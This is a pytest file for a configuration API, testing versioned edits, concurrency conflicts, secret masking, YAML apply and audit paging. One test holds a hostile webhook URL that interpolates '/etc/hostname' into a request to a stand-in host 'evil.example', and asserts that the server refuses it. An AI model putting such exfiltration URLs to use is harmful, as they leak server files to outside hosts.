"""The configuration over HTTP: read, changed, checked, taken in, and never a secret in an answer."""

from __future__ import annotations

import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import managing
import pytest
from managing import CONNECTION, KEY, PULL, WAREHOUSE
from signing import Client, Signed

from tidegate import errors
from tidegate.engine import editing, proving
from tidegate.engine import place as places
from tidegate.store import keyed, secrets, trail

PULLS = "/api/v1/configuration/pulls"
STRIPE = "/api/v1/configuration/stripe"


@pytest.fixture
def place(tmp_path: Path) -> Iterator[places.Place]:
    """A file with a connection, a warehouse and a pull; everything else is made over HTTP."""
    url = f"sqlite:///{tmp_path}/tidegate.db"
    with managing.placed(managing.written(tmp_path, url), url) as found:
        yield found


@pytest.fixture
def editor(place: places.Place, tokened: Signed) -> Client:
    found: Client = tokened(place, "write")
    return found


@pytest.fixture
def admin(place: places.Place, tokened: Signed) -> Client:
    found: Client = tokened(place, "admin")
    return found


def put(client: Client, path: str, body: Any, version: int | None = None, **headers: str) -> Any:
    return client.ask("PUT", path, json={"body": body, "version": version}, **headers)


class TestParts:
    def test_one_is_made_read_changed_and_removed(self, editor: Client, place: places.Place) -> None:
        made = put(editor, f"{PULLS}/more", PULL)
        assert made.status == 201
        assert made.headers["etag"] == '"1"'
        assert "pull:more" in place.flows
        found = editor.get(f"{PULLS}/more")
        assert found.status == 200
        assert found.json == made.json
        assert {name: found.json[name] for name in ("kind", "name", "origin", "version", "body")} == {
            "kind": "pulls",
            "name": "more",
            "origin": "store",
            "version": 1,
            "body": PULL,
        }
        changed = put(editor, f"{PULLS}/more", {**PULL, "lookback": "3d"}, 1)
        assert (changed.status, changed.json["version"]) == (200, 2)
        assert editor.ask("DELETE", f"{PULLS}/more?version=2").status == 204
        assert editor.get(f"{PULLS}/more").status == 404

    def test_the_one_of_its_kind_has_no_name(self, editor: Client, place: places.Place) -> None:
        made = put(editor, "/api/v1/configuration/alerts", {"remind": "7d"})
        assert (made.status, made.json["name"]) == (201, "")
        assert place.file.alerts is not None
        assert editor.get("/api/v1/configuration/alerts").json["body"] == {"remind": "7d"}
        checked = editor.post("/api/v1/configuration/alerts/check", json={"body": {"remind": "soon"}})
        assert checked.json["problems"][0]["path"] == "remind"
        assert editor.ask("DELETE", "/api/v1/configuration/alerts", If_Match='"1"').status == 204
        assert editor.get("/api/v1/configuration/customer_model").status == 404

    def test_they_are_listed_with_those_of_the_file_page_by_page(self, editor: Client) -> None:
        put(editor, f"{PULLS}/more", PULL)
        seen, after = [], ""
        while True:
            page = editor.get(f"/api/v1/configuration?limit=1{after}").json
            seen += [(each["kind"], each["name"], each["origin"], each["line"]) for each in page["items"]]
            if page["next"] is None:
                break
            after = f"&after={page['next']}"
        assert seen == [
            ("stripe", "acme", "file", 2),
            ("warehouses", "one", "file", 4),
            ("pulls", "everything", "file", 6),
            ("pulls", "more", "store", 0),
        ]
        found = editor.get("/api/v1/configuration?kind=pulls&origin=store&search=OR").json["items"]
        assert [each["name"] for each in found] == ["more"]

    def test_those_of_the_file_are_read_only_and_say_where_they_are(self, editor: Client) -> None:
        for answer in (
            put(editor, f"{PULLS}/everything", PULL, 0),
            editor.ask("DELETE", f"{PULLS}/everything?version=0"),
        ):
            assert answer.status == 409
            assert answer.json["detail"] == (
                "pulls.everything is written in the file (line 6); change it there."
            )

    def test_of_two_who_change_one_the_second_is_refused(self, editor: Client) -> None:
        put(editor, f"{PULLS}/more", PULL)
        put(editor, f"{PULLS}/more", {**PULL, "lookback": "3d"}, 1)
        late = put(editor, f"{PULLS}/more", {**PULL, "lookback": "9d"}, 1)
        assert late.status == 409
        matched = put(editor, f"{PULLS}/more", {**PULL, "lookback": "9d"}, If_Match='"1"')
        assert matched.status == 412
        assert "since you looked at it" in matched.json["detail"]
        assert editor.ask("DELETE", f"{PULLS}/more", If_Match='"1"').status == 412
        assert editor.get(f"{PULLS}/more").json["body"]["lookback"] == "3d"

    def test_who_does_not_say_what_was_seen_is_asked_for_it(self, editor: Client) -> None:
        put(editor, f"{PULLS}/more", PULL)
        for answer in (put(editor, f"{PULLS}/more", PULL), editor.ask("DELETE", f"{PULLS}/more")):
            assert answer.status == 428
            assert "Say which version of pulls.more you saw" in answer.json["detail"]
        assert "another name" not in editor.ask("DELETE", f"{PULLS}/more").json["detail"]
        assert editor.get(f"{PULLS}/more").json["version"] == 1

    def test_a_star_is_whatever_is_there_and_nothing_where_nothing_is(self, editor: Client) -> None:
        for answer in (
            put(editor, f"{PULLS}/more", PULL, If_Match="*"),
            editor.ask("DELETE", f"{PULLS}/more", If_Match="*"),
        ):
            assert (answer.status, answer.json["detail"]) == (412, "There is no pulls.more.")
        put(editor, f"{PULLS}/more", PULL)
        changed = put(editor, f"{PULLS}/more", {**PULL, "lookback": "3d"}, If_Match="*")
        assert (changed.status, changed.json["version"]) == (200, 2)
        assert editor.ask("DELETE", f"{PULLS}/more", If_Match="*").status == 204

    def test_the_answer_is_of_the_own_change_whoever_comes_right_after(
        self, editor: Client, place: places.Place, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        put(editor, f"{PULLS}/more", PULL)
        change = editing.change

        def overtaken(*given: Any, **told: Any) -> editing.Change:
            done = change(*given, **told)
            change(place, "bob", "pulls", "more", {**PULL, "lookback": "9d"}, done.version)
            return done

        monkeypatch.setattr(editing, "change", overtaken)
        mine = put(editor, f"{PULLS}/more", {**PULL, "lookback": "3d"}, 1)
        monkeypatch.undo()
        assert (mine.json["version"], mine.headers["etag"]) == (2, '"2"')
        assert mine.json["body"]["lookback"] == "3d"
        assert mine.json["changed_by"] != "bob"
        assert put(editor, f"{PULLS}/more", PULL, If_Match=mine.headers["etag"]).status == 412
        assert editor.get(f"{PULLS}/more").json["body"]["lookback"] == "9d"

    def test_while_the_file_is_not_valid_nothing_is_changed(self, editor: Client, tmp_path: Path) -> None:
        put(editor, f"{PULLS}/more", PULL)
        file = tmp_path / "tidegate.yaml"
        valid = file.read_text()
        file.write_text(valid.replace("to: one", "to: nowhere"))
        for answer in (
            put(editor, f"{PULLS}/another", PULL),
            put(editor, f"{PULLS}/more", {**PULL, "lookback": "3d"}, If_Match="*"),
            editor.ask("DELETE", f"{PULLS}/more?version=1"),
            editor.post("/api/v1/apply", json={"yaml": "pulls: {third: {from: acme, to: one}}"}),
        ):
            assert answer.status == 409
            assert "tidegate.yaml:6:" in answer.json["detail"]
            assert "pulls.everything.to" in answer.json["detail"]
        found = editor.get("/api/v1/overview").json
        assert found["health"] != "ok"
        assert found["sentence"].startswith("A newer configuration does not count. ")
        file.write_text(valid)
        assert put(editor, f"{PULLS}/another", PULL).status == 201

    def test_what_is_not_valid_says_where_in_the_body(self, editor: Client, place: places.Place) -> None:
        body = {**PULL, "to": "on", "lookback": "7 moons"}
        answer = put(editor, f"{PULLS}/more", body)
        assert answer.status == 422
        wrong = [
            {"path": "lookback", "message": "write a number and a unit: 30s, 15m, 6h, 7d or 2w"},
            {"path": "to", "message": "`warehouses` has no such name; did you mean 'one'?"},
        ]
        assert answer.json["errors"] == wrong
        checked = editor.post(f"{PULLS}/more/check", json={"body": body})
        assert checked.json == {"valid": False, "problems": wrong}
        assert editor.post(f"{PULLS}/more/check", json={"body": PULL}).json == {"valid": True, "problems": []}
        assert list(place.flows) == ["pull:everything"]

    @pytest.mark.parametrize(
        ("path", "status"),
        [
            (f"{PULLS}/nobody", 404),
            ("/api/v1/configuration/alerts", 404),
            ("/api/v1/configuration/nonsense/x", 422),
            ("/api/v1/configuration/pulls", 422),  # there are several
        ],
    )
    def test_what_is_not_there(self, editor: Client, path: str, status: int) -> None:
        assert editor.get(path).status == status
        assert editor.ask("DELETE", f"{path}?version=1").status == status

    @pytest.mark.parametrize("scope", ["read", "run"])
    def test_who_may_not_write_changes_nothing(
        self, place: places.Place, tokened: Signed, scope: str
    ) -> None:
        client = tokened(place, scope)
        assert client.get(f"{PULLS}/everything").status == 200
        for answer in (
            put(client, f"{PULLS}/more", PULL),
            client.ask("DELETE", f"{PULLS}/everything"),
            client.post(f"{PULLS}/more/check", json={"body": PULL}),
            client.post("/api/v1/apply", json={"yaml": "pulls: {}"}),
            client.ask("PUT", "/api/v1/secrets/x", json={"value": "y"}),
        ):
            assert answer.status == 403
        assert trail.listed(place.store, what="pulls") == []


class TestSecrets:
    def test_one_that_is_given_is_shown_by_four_characters_and_kept_by_its_mark(
        self, editor: Client, place: places.Place
    ) -> None:
        made = put(editor, f"{STRIPE}/other", CONNECTION)
        mark = {"secret": True, "last4": "6789", "name": "stripe/other/api_key"}
        assert made.json["body"] == {"api_key": mark}
        changed = put(editor, f"{STRIPE}/other", {"api_key": mark, "budget": 0.5}, 1)
        assert changed.status == 200
        key = place.file.stripe["other"].api_key
        assert key is not None
        assert key.get_secret_value() == KEY

    def test_no_answer_has_one(self, editor: Client, admin: Client) -> None:
        put(editor, f"{STRIPE}/other", CONNECTION)
        put(editor, f"{STRIPE}/wrong", {**CONNECTION, "budget": KEY})
        for path in (
            "/api/v1/configuration",
            f"{STRIPE}/acme",
            f"{STRIPE}/other",
            "/api/v1/export",
            "/api/v1/secrets",
            "/api/v1/changes",
        ):
            answer = admin.get(path)
            assert answer.status == 200
            assert KEY not in answer.text
        for body in ({**CONNECTION, "budget": KEY}, {"api_key": [KEY]}, {"api_key": {"a": KEY}}):
            answer = put(editor, f"{STRIPE}/bad", body)
            assert answer.status == 422
            assert KEY not in answer.text

    def test_only_an_admin_has_the_servers_environment_read(
        self, editor: Client, admin: Client, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("ACME_KEY", KEY)
        body = {"api_key": "${ACME_KEY}"}
        refused = put(editor, f"{STRIPE}/env", body)
        assert refused.status == 422
        assert refused.json["errors"][0]["path"] == "api_key"
        assert put(admin, f"{STRIPE}/env", body).json["body"] == body

    def test_secrets_are_set_listed_and_forgotten_by_name(self, admin: Client, place: places.Place) -> None:
        assert admin.ask("PUT", "/api/v1/secrets/team/key", json={"value": "geheim"}).status == 204
        put(admin, f"{STRIPE}/other", {"api_key": "${secret:team/key}"})
        [found] = admin.get("/api/v1/secrets").json["items"]
        assert (found["name"], found["used_by"]) == ("team/key", ["stripe.other"])
        used = admin.ask("DELETE", "/api/v1/secrets/team/key")
        assert used.status == 409
        assert used.json["detail"] == "stripe.other would be without team/key; change that first."
        admin.ask("DELETE", f"{STRIPE}/other?version={admin.get(f'{STRIPE}/other').json['version']}")
        # It was set apart, and no part took it along.
        assert secrets.vault(place.store).get("team/key") == "geheim"
        assert admin.ask("DELETE", "/api/v1/secrets/team/key").status == 204
        assert admin.ask("DELETE", "/api/v1/secrets/team/key").status == 404
        assert admin.ask("PUT", "/api/v1/secrets/a%20b", json={"value": "x"}).status == 422

    def test_an_editor_sees_none_of_them(self, editor: Client) -> None:
        assert editor.get("/api/v1/secrets").status == 403
        assert editor.get("/api/v1/changes").status == 403


class TestWrong:
    def test_of_several_mistakes_the_first_is_a_sentence_and_all_have_their_places(
        self, editor: Client
    ) -> None:
        answer = put(editor, f"{PULLS}/none", {"schedule": "every now and then"})
        told = [each["path"] for each in answer.json["errors"]]
        assert (answer.status, {"from", "to"} <= set(told)) == (422, True)
        assert answer.json["detail"].endswith(f"(and {len(told) - 1} more)")
        assert "\n" not in answer.json["detail"]

    def test_a_part_without_a_name_has_no_other_name(self, editor: Client) -> None:
        part = "/api/v1/configuration/customer_model"
        assert put(editor, part, {"warehouse": "one"}).status == 201
        unseen = put(editor, part, {"warehouse": "one", "table": "people"})
        assert (unseen.status, "another name" in unseen.json["detail"]) == (428, False)


class TestWhole:
    TEXT = "stripe: {other: {api_key: sk_test_geheim123456789}}\npulls: {more: {from: other, to: one}}\n"

    def test_yaml_is_taken_in_whole_and_comes_back(
        self, editor: Client, admin: Client, place: places.Place
    ) -> None:
        dry = editor.post("/api/v1/apply", json={"yaml": self.TEXT, "dry_run": True}).json
        assert (dry["changed"], len(dry["changes"])) == (False, 2)
        assert "pull:more" not in place.flows
        done = editor.post("/api/v1/apply", json={"yaml": self.TEXT}).json
        assert [each["action"] for each in done["changes"]] == ["create", "create"]
        assert "pull:more" in place.flows
        assert editor.get("/api/v1/export").status == 403
        exported = admin.get("/api/v1/export")
        assert exported.headers["content-type"].startswith("text/plain")
        again = editor.post("/api/v1/apply", json={"yaml": exported.text, "prune": True}).json
        assert again.pop("versions") == {"stripe.other": 1, "pulls.more": 1}
        assert again == {"changed": False, "changes": [], "unchanged": 2, "left_out": [], "unpruned": []}

    @pytest.mark.parametrize("text", ["", "a: [", "pulls: {more: {from: nobody, to: one}}", "- a", "\t"])
    def test_what_is_wrong_with_it_changes_nothing(
        self, editor: Client, place: places.Place, text: str
    ) -> None:
        answer = editor.post("/api/v1/apply", json={"yaml": text})
        assert answer.status == 422
        assert answer.json["detail"]
        assert trail.listed(place.store, what="pulls") == []

    def test_an_editors_yaml_reads_nothing_of_the_server(self, editor: Client) -> None:
        text = "alerts: {webhook: {url: 'https://evil.example/${file:/etc/hostname}'}}\n"
        answer = editor.post("/api/v1/apply", json={"yaml": text})
        assert answer.status == 422
        assert "only an admin" in answer.json["detail"]


def test_the_audit_log_is_read_page_by_page(editor: Client, admin: Client) -> None:
    put(editor, "/api/v1/configuration/warehouses/two", WAREHOUSE)
    put(editor, f"{PULLS}/more", PULL)
    put(editor, f"{PULLS}/more", {**PULL, "lookback": "3d"}, 2)
    first = admin.get("/api/v1/changes?limit=2&search=pulls").json
    moment = urllib.parse.quote(first["items"][1]["at"])
    since = admin.get(f"/api/v1/changes?since={moment}&limit=500").json["items"]
    until = admin.get(f"/api/v1/changes?until={moment}&limit=500").json["items"]
    whole = admin.get("/api/v1/changes?limit=500").json["items"]
    assert since + until == whole
    assert since[:2] == first["items"][:2]
    assert admin.get("/api/v1/changes?since=7d").status == 422
    assert [(each["action"], each["what"], each["via"]) for each in first["items"]] == [
        ("change", "pulls.more", "token"),
        ("create", "pulls.more", "token"),
    ]
    assert first["items"][0]["before"] == PULL
    assert first["next"] is None
    assert first["items"][0]["at"].endswith("Z")
    page = admin.get("/api/v1/changes?limit=1&what=pulls").json
    rest = admin.get(f"/api/v1/changes?limit=5&what=pulls&after={page['next']}").json
    assert [each["action"] for each in (*page["items"], *rest["items"])] == ["change", "create"]


def test_what_is_made_is_served_at_once(editor: Client) -> None:
    """Deliveries of Stripe and triggers find a connection and a pull that the file does not have."""
    assert editor.post("/webhooks/stripe/other").status == 404
    assert editor.post("/triggers/more").status == 404
    put(editor, f"{STRIPE}/other", CONNECTION)
    put(editor, f"{PULLS}/more", {**PULL, "from": "other"})
    assert editor.post("/webhooks/stripe/other").status == 400  # nobody has signed it
    assert editor.post("/triggers/more").status == 202
    editor.ask("DELETE", f"{PULLS}/more", If_Match='"2"')
    editor.ask("DELETE", f"{STRIPE}/other", If_Match='"1"')
    assert editor.post("/webhooks/stripe/other").status == 404
    assert editor.post("/triggers/more").status == 404


PIPELINE = {
    "from": "acme",
    "to": "one",
    "stream": "customers",
    "map": {"email": {"from": "email"}},
    "cases": [{"name": "small", "given": {"email": "a@x.io"}, "expected": {"email": "a@x.io"}}],
}
PIPELINES = "/api/v1/configuration/pipelines"


class TestCases:
    """A pipeline whose saved cases fail is kept by nobody."""

    def test_not_by_a_put(self, editor: Client, place: places.Place) -> None:
        wrong = {**PIPELINE, "cases": [{**PIPELINE["cases"][0], "expected": {"email": "other@x.io"}}]}  # type: ignore[dict-item]
        answer = put(editor, f"{PIPELINES}/eu", wrong)
        assert answer.status == 422
        assert answer.json["errors"][0]["path"] == "cases[0]"
        assert "'small' comes out differently" in answer.json["errors"][0]["message"]
        assert place.file.pipelines == {}
        assert put(editor, f"{PIPELINES}/eu", PIPELINE).status == 201

    def test_nor_by_applying_a_file_also_where_all_it_needs_comes_with_it(
        self, editor: Client, place: places.Place
    ) -> None:
        text = """
warehouses: {two: {type: duckdb, path: two.duckdb}}
pipelines:
  eu:
    {from: acme, to: two, stream: customers, map: {email: {from: email}},
     cases: [{name: small, given: {email: a@x.io}, expected: {email: EXPECTED}}]}
"""
        for dry_run in (True, False):
            wrong = {"yaml": text.replace("EXPECTED", "b@x.io"), "dry_run": dry_run}
            answer = editor.post("/api/v1/apply", json=wrong)
            assert answer.status == 422
            assert "'small' comes out differently" in answer.json["detail"]
        assert "two" not in place.file.warehouses
        assert editor.post("/api/v1/apply", json={"yaml": text.replace("EXPECTED", "a@x.io")}).json["changed"]

    def test_what_no_case_depends_on_may_change_where_one_fails(
        self, editor: Client, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        with monkeypatch.context() as before:
            before.setattr(proving, "prove", lambda *_: None)
            wrong = {**PIPELINE, "cases": [{**PIPELINE["cases"][0], "expected": {"email": "other@x.io"}}]}  # type: ignore[dict-item]
            put(editor, f"{PIPELINES}/eu", wrong)
        assert put(editor, f"{PIPELINES}/eu", {**wrong, "enabled": False}, 1).status == 200


class TestApply:
    def test_with_the_versions_of_a_dry_run_nothing_of_others_is_overwritten(self, editor: Client) -> None:
        put(editor, f"{PULLS}/more", PULL)
        sheet = {"yaml": "pulls: {more: {from: acme, to: one, lookback: 3d}, new: {from: acme, to: one}}"}
        shown = editor.post("/api/v1/apply", json={**sheet, "dry_run": True}).json
        assert shown["versions"] == {"pulls.more": 1, "pulls.new": None}
        put(editor, f"{PULLS}/more", {**PULL, "lookback": "9d"}, 1)
        late = editor.post("/api/v1/apply", json={**sheet, "versions": shown["versions"]})
        assert late.status == 409
        assert editor.get(f"{PULLS}/more").json["body"]["lookback"] == "9d"
        shown = editor.post("/api/v1/apply", json={**sheet, "dry_run": True}).json
        taken = editor.post("/api/v1/apply", json={**sheet, "versions": shown["versions"]})
        assert (taken.status, taken.json["changed"]) == (200, True)

    def test_what_came_after_a_dry_run_is_neither_taken_over_nor_pruned(self, editor: Client) -> None:
        sheet = {"yaml": "pulls: {new: {from: acme, to: one}}", "prune": True}
        shown = editor.post("/api/v1/apply", json={**sheet, "dry_run": True}).json
        put(editor, f"{PULLS}/more", PULL)
        assert editor.post("/api/v1/apply", json={**sheet, "versions": shown["versions"]}).status == 200
        assert editor.get(f"{PULLS}/more").status == 200
        put(editor, f"{PULLS}/third", PULL)
        late = {"yaml": "pulls: {third: {from: acme, to: one}}", "versions": {"pulls.third": None}}
        assert editor.post("/api/v1/apply", json=late).status == 409

    def test_one_whose_answer_was_lost_is_answered_as_it_was_the_first_time(
        self, editor: Client, place: places.Place, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """The server is killed between the change and the answer; somebody else changes something meanwhile."""
        sheet = {"yaml": "pulls: {new: {from: acme, to: one}}"}
        shown = editor.post("/api/v1/apply", json={**sheet, "dry_run": True}).json
        wanted = {**sheet, "versions": shown["versions"]}
        with monkeypatch.context() as killed:
            killed.setattr(keyed, "answer", _unreachable)
            first = editor.post("/api/v1/apply", json=wanted, Idempotency_Key="k")
        assert (first.status, first.json["changed"]) == (200, True)
        put(editor, f"{PULLS}/new", {**PULL, "lookback": "9d"}, first.json["changes"][0]["version"])
        place.store.execute("UPDATE keyed SET seen_at = seen_at - :ago", {"ago": keyed.SILENT + 1})
        again = editor.post("/api/v1/apply", json=wanted, Idempotency_Key="k")
        assert (again.status, again.json) == (200, first.json)
        assert editor.get(f"{PULLS}/new").json["body"]["lookback"] == "9d", "nothing is applied twice"
        replayed = editor.post("/api/v1/apply", json=wanted, Idempotency_Key="k")
        assert (replayed.json, replayed.headers["idempotent-replayed"]) == (first.json, "true")
        [kept] = place.store.execute("SELECT made FROM keyed WHERE key = 'k'")
        assert kept["made"] == "{}", "it is kept once, with the answer"
        assert editor.post("/api/v1/apply", json=wanted, Idempotency_Key="other").status == 409


def _unreachable(*_: object) -> None:
    raise errors.StoreUnreachable("It was killed.")
